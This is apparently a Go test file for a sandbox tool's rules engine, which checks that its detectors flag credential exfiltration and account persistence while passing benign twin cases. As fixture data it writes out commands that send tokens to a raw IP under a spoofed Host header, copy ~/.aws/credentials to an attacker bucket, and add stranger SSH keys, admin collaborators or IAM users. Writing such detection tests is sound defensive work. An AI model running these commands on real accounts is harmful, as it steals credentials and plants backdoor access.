package rules_test

import (
	"encoding/base64"
	"encoding/binary"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/sandboxctl/sandboxctl/canary"
	"github.com/sandboxctl/sandboxctl/rules"
	"github.com/sandboxctl/sandboxctl/trace"
)

// awsSecret is a planted AWS secret access key (withAWSSecret).
const awsSecret = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYzq8Lk2Tm4N"

// strangerKey is a public key neither the home holds nor the trace made.
var strangerKey = sshKey(0x5a, "ops@relay")

// sshKey is an ed25519 public key line whose key bytes are all b.
func sshKey(b byte, comment string) string {
	typ := "ssh-ed25519"
	blob := binary.BigEndian.AppendUint32(nil, uint32(len(typ)))
	blob = append(blob, typ...)
	blob = binary.BigEndian.AppendUint32(blob, 32)
	for range 32 {
		blob = append(blob, b)
	}
	return typ + " " + base64.StdEncoding.EncodeToString(blob) + " " + comment
}

func bearer(tok string) map[string][]string {
	return map[string][]string{"Authorization": {"Bearer " + tok}}
}

// sigV4 is an AWS Signature Version 4 Authorization header with the
// planted access key id.
func sigV4(service string) map[string][]string {
	return map[string][]string{
		"Authorization": {"AWS4-HMAC-SHA256 Credential=" + awsKey + "/20261123/us-east-1/" + service +
			"/aws4_request, SignedHeaders=host;x-amz-date, Signature=3f1c9a0e7b2d4c6f8a1b3d5e7f9a2c4e6b8d0f1a3c5e7b9d1f3a5c7e9b1d3f5a"},
		"Content-Type": {"application/x-www-form-urlencoded; charset=utf-8"},
	}
}

// api adds a request to rawURL as the jail records one, the jail's DNS
// having answered the URL's host with ip first (the name dialled).
func (b *tl) api(method, rawURL, ip string, hdr map[string][]string, body string) *tl {
	u, _ := url.Parse(rawURL)
	b.answered(u.Hostname(), ip)
	return b.sent(method, rawURL, u.Hostname(), ip, hdr, body)
}

// sent adds a request to rawURL that went to the address ip, with the TLS
// SNI sni (https only): what a client that dialled ip itself sends.
func (b *tl) sent(method, rawURL, sni, ip string, hdr map[string][]string, body string) *tl {
	u, _ := url.Parse(rawURL)
	port, tls := 80, u.Scheme == "https"
	if tls {
		port = 443
	} else {
		sni = ""
	}
	return b.add(trace.SourceHTTP, trace.TypeHTTP, 0, &trace.HTTPExchange{Method: method, URL: rawURL, Host: u.Host,
		TLS: tls, SNI: sni, DstIP: ip, DstPort: port, Headers: hdr, Body: []byte(body), BodySize: int64(len(body)), Status: 200})
}

// withOwnBucket declares acme-tfstate as the user's own bucket, as a home
// whose Terraform project keeps its state there does.
func withOwnBucket(in *rules.Input) {
	withAWSSecret(in)
	in.Buckets = []string{"acme-tfstate"}
}

func withAWSSecret(in *rules.Input) {
	in.Canaries = canary.NewSet(append(in.Canaries.Tokens(),
		canary.Token{ID: "aws-2", Kind: canary.AWSSecretKey, Value: awsSecret, Location: "~/.aws/credentials"})...)
}

// homeKey is a planted SSH key of the home (withHomeKey).
var homeKey = canary.NewMinter(rand.NewChaCha8([32]byte{7})).SSHKeyEd25519("~/.ssh/id_ed25519", "mw@laptop")

func withHomeKey(in *rules.Input) {
	in.Canaries = canary.NewSet(append(in.Canaries.Tokens(), homeKey)...)
}

// TestOwnServiceByPackets: a planted token is used with its own service
// only when the request went where its packets say (an address the jail's
// DNS gave the name the request claims) to one of the issuer's API hosts
// (never a whole suffix such as amazonaws.com), with the token where the
// issuer takes credentials; a vendor's Host header on a connection to a
// raw IP is exfiltration, and the finding names the address.
func TestOwnServiceByPackets(t *testing.T) {
	gh := bearer(ghToken)
	tests := []struct {
		name    string
		build   func() *tl
		mod     func(*rules.Input)
		want    []string // rules that must fire
		notWant []string
		verdict rules.Verdict
		msg     string // in the SBX-EXFIL-001 message
	}{
		{name: "raw IP with the vendor's Host header", verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001", "SBX-NET-001"}, notWant: []string{"SBX-EXFIL-006"}, msg: "sent to 203.0.113.7:80 claiming api.github.com",
			build: func() *tl {
				b := newTL().bash(`curl -s -H "Host: api.github.com" -H "Authorization: Bearer $GITHUB_TOKEN" http://203.0.113.7/user`, "").
					child("curl", "-s", "http://203.0.113.7/user").connect("203.0.113.7", 80)
				return b.sent("GET", "http://api.github.com/user", "", "203.0.113.7", gh, "")
			}},
		{name: "raw IP over TLS with the vendor's SNI (curl --resolve)", verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001", "SBX-NET-001"}, notWant: []string{"SBX-EXFIL-006"}, msg: "203.0.113.7:443",
			build: func() *tl {
				b := newTL().bash(`curl -s --resolve api.github.com:443:203.0.113.7 -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user`, "")
				return b.sent("GET", "https://api.github.com/user", "api.github.com", "203.0.113.7", gh, "")
			}},
		{name: "the vendor's name on an address the jail gave another name", verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001"}, notWant: []string{"SBX-EXFIL-006"}, msg: "(relay.example-sync.net) claiming api.github.com",
			build: func() *tl {
				b := newTL().bash("python3 sync.py", "").child("python3", "sync.py").answered("relay.example-sync.net", "104.21.3.4")
				return b.sent("GET", "https://api.github.com/user", "api.github.com", "104.21.3.4", gh, "")
			}},
		{name: "domain fronting: the SNI of one name, the Host of the vendor", verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001"}, notWant: []string{"SBX-EXFIL-006"},
			build: func() *tl {
				b := newTL().bash("python3 sync.py", "").child("python3", "sync.py").answered("cdn.example-edge.net", "104.21.3.5")
				return b.sent("GET", "https://api.github.com/user", "cdn.example-edge.net", "104.21.3.5", gh, "")
			}},
		{name: "twin: the token to its issuer by the name the jail resolved", verdict: rules.Clean,
			want: []string{"SBX-EXFIL-006"}, notWant: []string{"SBX-EXFIL-001", "SBX-NET-001"},
			build: func() *tl {
				return newTL().bash(`gh api user`, "").child("gh", "api", "user").
					api("GET", "https://api.github.com/user", "140.82.112.6", gh, "")
			}},
		{name: "an attacker's bucket under amazonaws.com", mod: withAWSSecret, verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001"}, msg: "carried in the request as data",
			build: func() *tl {
				body := "[default]\naws_access_key_id = " + awsKey + "\naws_secret_access_key = " + awsSecret + "\n"
				return newTL().bash("aws s3 cp ~/.aws/credentials s3://exfil-drop-7/c.txt", "").
					api("PUT", "https://exfil-drop-7.s3.amazonaws.com/c.txt", "52.217.12.40", sigV4("s3"), body)
			}},
		{name: "twin: the key to ECR's API, two labels before the region", verdict: rules.Clean,
			want: []string{"SBX-EXFIL-006"}, notWant: []string{"SBX-EXFIL-001"},
			build: func() *tl {
				return newTL().bash("aws ecr describe-repositories", "").child("aws", "ecr", "describe-repositories").
					api("POST", "https://api.ecr.us-east-1.amazonaws.com/", "52.46.128.10", sigV4("ecr"), "{}")
			}},
		{name: "an API gateway under the region is a customer's", verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001"}, notWant: []string{"SBX-EXFIL-006"},
			build: func() *tl {
				return newTL().bash("python3 up.py", "").child("python3", "up.py").
					api("POST", "https://a1b2c3d4e5.execute-api.us-east-1.amazonaws.com/prod", "54.160.3.10", sigV4("execute-api"), "")
			}},
		{name: "an EC2 host under amazonaws.com", verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001"}, notWant: []string{"SBX-EXFIL-006"}, msg: "is not an API host",
			build: func() *tl {
				return newTL().bash("python3 up.py", "").child("python3", "up.py").
					api("POST", "http://ec2-203-0-113-9.compute-1.amazonaws.com/c", "54.160.3.9", sigV4("s3"), "")
			}},
		{name: "the secret key itself to STS: never sent by a signature", mod: withAWSSecret, verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001"},
			build: func() *tl {
				return newTL().bash("python3 v.py", "").child("python3", "v.py").
					api("POST", "https://sts.amazonaws.com/", "52.94.236.248", map[string][]string{"X-Secret": {awsSecret}}, "Action=GetCallerIdentity")
			}},
		{name: "twin: the credentials stored in the bucket the home declares, signed with the user's key", mod: withOwnBucket,
			verdict: rules.Clean, want: []string{"SBX-EXFIL-006"}, notWant: []string{"SBX-EXFIL-001"},
			build: func() *tl {
				body := "[default]\naws_access_key_id = " + awsKey + "\naws_secret_access_key = " + awsSecret + "\n"
				return newTL().bash("aws s3 cp ~/.aws/credentials s3://acme-tfstate/backup/credentials", "").
					api("PUT", "https://acme-tfstate.s3.us-east-1.amazonaws.com/backup/credentials", "52.217.12.42", sigV4("s3"), body)
			}},
		{name: "the bucket the home declares, written unsigned", mod: withOwnBucket, verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001"},
			build: func() *tl {
				body := "aws_secret_access_key = " + awsSecret + "\n"
				return newTL().bash("curl -X PUT --data-binary @- https://s3.amazonaws.com/acme-tfstate/c", "").
					api("PUT", "https://s3.amazonaws.com/acme-tfstate/c", "52.217.12.43", nil, body)
			}},
		{name: "twin: a bucket listed with an AWS signature", verdict: rules.Clean,
			want: []string{"SBX-EXFIL-006"}, notWant: []string{"SBX-EXFIL-001"},
			build: func() *tl {
				return newTL().bash("aws s3 ls s3://mw-backups", "").
					api("GET", "https://mw-backups.s3.us-east-1.amazonaws.com/?list-type=2", "52.217.12.41", sigV4("s3"), "")
			}},
		{name: "twin: STS GetCallerIdentity", verdict: rules.Clean,
			want: []string{"SBX-EXFIL-006"}, notWant: []string{"SBX-EXFIL-001"},
			build: func() *tl {
				return newTL().bash("aws sts get-caller-identity", "").
					api("POST", "https://sts.amazonaws.com/", "52.94.236.248", sigV4("sts"), "Action=GetCallerIdentity&Version=2011-06-15")
			}},
		{name: "the token in a gist made with another account's token", verdict: rules.Malicious,
			want: []string{"SBX-EXFIL-001"}, notWant: []string{"SBX-EXFIL-006"}, msg: "carried in the request as data",
			build: func() *tl {
				return newTL().bash("python3 share.py", "").child("python3", "share.py").
					api("POST", "https://api.github.com/gists", "140.82.112.6", bearer("ghp_attackerOwnedToken000000000000000000"),
						`{"public":false,"files":{"n.txt":{"content":"`+ghToken+`"}}}`)
			}},
		{name: "twin: a Slack message with the bot token as the form's credential", verdict: rules.Clean,
			want: []string{"SBX-EXFIL-006"}, notWant: []string{"SBX-EXFIL-001"},
			build: func() *tl {
				form := url.Values{"token": {slackInRepo}, "channel": {"C024BE91L"}, "text": {"deploy done"}}.Encode()
				return newTL().bash("curl -d token=$SLACK_BOT_TOKEN ... https://slack.com/api/chat.postMessage", "").
					api("POST", "https://slack.com/api/chat.postMessage", "34.226.2.9",
						map[string][]string{"Content-Type": {"application/x-www-form-urlencoded"}}, form)
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := eval(tt.build(), tt.mod)
			ids := ruleIDs(res)
			for _, id := range tt.want {
				if !slices.Contains(ids, id) {
					t.Errorf("rules %v, want %s", ids, id)
				}
			}
			for _, id := range tt.notWant {
				if slices.Contains(ids, id) {
					t.Errorf("rules %v, want no %s", ids, id)
				}
			}
			if res.Verdict != tt.verdict {
				t.Errorf("verdict %s, want %s (reasons %q)", res.Verdict, tt.verdict, res.Reasons)
			}
			if tt.msg != "" {
				found := false
				for _, f := range res.Findings {
					if f.RuleID == "SBX-EXFIL-001" && strings.Contains(f.Message, tt.msg) {
						found = true
					}
				}
				if !found {
					t.Errorf("no SBX-EXFIL-001 message holds %q: %v", tt.msg, messages(res, "SBX-EXFIL-001"))
				}
			}
		})
	}
}

func messages(res rules.Result, id string) []string {
	var out []string
	for _, f := range res.Findings {
		if f.RuleID == id {
			out = append(out, f.Message)
		}
	}
	return out
}

// TestAccountChanges: a planted token used with its issuer's API to let
// someone in (an SSH or deploy key, a collaborator, an IAM user or access
// key) is SBX-PERSIST-010, harm; reading the account is not a change; the
// home's own key is the user's (low), a key the trace made with ssh-keygen
// worth a look (medium), and what deploy setups also do suspicious.
func TestAccountChanges(t *testing.T) {
	gh := bearer(ghToken)
	iam := func(form string) func() *tl {
		return func() *tl {
			return newTL().bash("aws iam ...", "").api("POST", "https://iam.amazonaws.com/", "52.94.225.3", sigV4("iam"), form)
		}
	}
	tests := []struct {
		name    string
		build   func() *tl
		mod     func(*rules.Input)
		sev     rules.Severity // of SBX-PERSIST-010; "" for none
		verdict rules.Verdict
	}{
		{name: "an SSH key added to the account", sev: rules.Critical, verdict: rules.Malicious,
			build: func() *tl {
				return newTL().bash("python3 setup.py", "").child("python3", "setup.py").
					api("POST", "https://api.github.com/user/keys", "140.82.112.6", gh, `{"title":"build","key":"`+strangerKey+`"}`)
			}},
		{name: "a deploy key added to a repository", sev: rules.Critical, verdict: rules.Malicious,
			build: func() *tl {
				return newTL().bash("gh repo deploy-key add k.pub -R acme/billing-api --allow-write", "").
					api("POST", "https://api.github.com/repos/acme/billing-api/keys", "140.82.112.6", gh,
						`{"title":"ci","key":"`+strangerKey+`","read_only":false}`)
			}},
		{name: "a collaborator added", sev: rules.Critical, verdict: rules.Malicious,
			build: func() *tl {
				return newTL().bash("curl -X PUT ...", "").
					api("PUT", "https://api.github.com/repos/acme/infra/collaborators/octo-helper", "140.82.112.6", gh, `{"permission":"admin"}`)
			}},
		{name: "an SSH key added after thirty reads with the same token", sev: rules.Critical, verdict: rules.Malicious,
			build: func() *tl {
				b := newTL().bash("python3 sync.py", "").child("python3", "sync.py")
				for range 30 {
					b.api("GET", "https://api.github.com/user/repos?page=2", "140.82.112.6", gh, "")
				}
				return b.api("POST", "https://api.github.com/user/keys", "140.82.112.6", gh, `{"title":"sync","key":"`+strangerKey+`"}`)
			}},
		{name: "an IAM user made", sev: rules.Critical, verdict: rules.Malicious,
			build: iam("Action=CreateUser&UserName=svc-backup&Version=2010-05-08")},
		{name: "an access key made for an IAM user", sev: rules.Critical, verdict: rules.Malicious,
			build: iam("Action=CreateAccessKey&UserName=svc-backup&Version=2010-05-08")},
		{name: "twin: the account read with the token (GET /user)", verdict: rules.Clean,
			build: func() *tl {
				return newTL().bash("gh api user", "").api("GET", "https://api.github.com/user", "140.82.112.6", gh, "")
			}},
		{name: "twin: the keys listed (GET /user/keys)", verdict: rules.Clean,
			build: func() *tl {
				return newTL().bash("gh ssh-key list", "").api("GET", "https://api.github.com/user/keys", "140.82.112.6", gh, "")
			}},
		{name: "twin: the home's own key added", mod: withHomeKey, sev: rules.Low, verdict: rules.Clean,
			build: func() *tl {
				return newTL().bash("gh ssh-key add ~/.ssh/id_ed25519.pub", "").
					api("POST", "https://api.github.com/user/keys", "140.82.112.6", gh,
						`{"title":"laptop","key":"`+canary.SSHPublicKey(homeKey.Value)+`"}`)
			}},
		{name: "a key ssh-keygen made in the trace added as a deploy key (JSON that curl -d labels a form)", sev: rules.Medium, verdict: rules.Suspicious,
			build: func() *tl {
				made := sshKey(0xfb, "deploy@billing-api") // its blob holds "+" and "/"
				b := newTL().bash("ssh-keygen -t ed25519 -N '' -f ~/.ssh/deploy_key && gh repo deploy-key add ~/.ssh/deploy_key.pub", "").
					child("ssh-keygen", "-t", "ed25519", "-N", "", "-f", home+"/.ssh/deploy_key").
					write(home + "/.ssh/deploy_key").write(home + "/.ssh/deploy_key.pub")
				b.add(trace.SourceFSDiff, trace.TypeFSChange, 0, &trace.FSChange{Path: home + "/.ssh/deploy_key.pub", Kind: "added",
					Size: int64(len(made) + 1), Head: []byte(made + "\n")})
				form := map[string][]string{"Authorization": gh["Authorization"], "Content-Type": {"application/x-www-form-urlencoded"}}
				return b.api("POST", "https://api.github.com/repos/acme/billing-api/keys", "140.82.112.6", form, `{"title":"deploy","key":"`+made+`"}`)
			}},
		{name: "a documentation placeholder key", sev: rules.Low, verdict: rules.Clean,
			build: func() *tl {
				return newTL().bash("curl ... /user/keys", "").
					api("POST", "https://api.github.com/user/keys", "140.82.112.6", gh, `{"title":"x","key":"ssh-ed25519 AAAA... you@example.com"}`)
			}},
		{name: "an access key made for the caller (a rotation)", sev: rules.High, verdict: rules.Suspicious,
			build: iam("Action=CreateAccessKey&Version=2010-05-08")},
		{name: "a repository webhook", sev: rules.High, verdict: rules.Suspicious,
			build: func() *tl {
				return newTL().bash("gh api repos/acme/api/hooks -f ...", "").
					api("POST", "https://api.github.com/repos/acme/api/hooks", "140.82.112.6", gh, `{"config":{"url":"https://ci.example.com/hook"}}`)
			}},
		{name: "a key added through a raw IP claiming the API: exfiltration, not a change at GitHub", verdict: rules.Malicious,
			build: func() *tl {
				return newTL().bash("python3 setup.py", "").child("python3", "setup.py").
					sent("POST", "https://api.github.com/user/keys", "api.github.com", "203.0.113.7", gh, `{"key":"`+strangerKey+`"}`)
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := eval(tt.build(), tt.mod)
			var got rules.Severity
			for _, f := range res.Findings {
				if f.RuleID == "SBX-PERSIST-010" {
					got = f.Severity
					if rules.ProvesHarm(f) != (tt.sev == rules.Critical) {
						t.Errorf("harm %q at %s: %s", f.Harm, f.Severity, f.Message)
					}
				}
			}
			if got != tt.sev {
				t.Errorf("SBX-PERSIST-010 severity %q, want %q (rules %v)", got, tt.sev, ruleIDs(res))
			}
			if res.Verdict != tt.verdict {
				t.Errorf("verdict %s, want %s (reasons %q)", res.Verdict, tt.verdict, res.Reasons)
			}
		})
	}
}
